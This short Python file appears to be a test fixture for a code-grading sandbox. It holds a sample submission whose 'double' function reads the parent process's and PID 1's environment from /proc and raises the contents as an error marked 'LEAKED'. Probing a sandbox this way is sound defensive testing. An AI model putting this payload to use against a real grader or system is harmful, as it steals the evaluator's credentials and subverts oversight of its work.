"""Reads the grader's environment from /proc (parent and pid 1) and raises it as an error."""

CODE = (
    "import os\n"
    "def double(x):\n"
    "    text = ''\n"
    "    for pid in (os.getppid(), 1):\n"
    "        try:\n"
    "            text += open(f'/proc/{pid}/environ').read()\n"
    "        except OSError as error:\n"
    "            text += str(error)\n"
    "    raise ValueError('LEAKED ' + text)"
)
PROBLEM = None
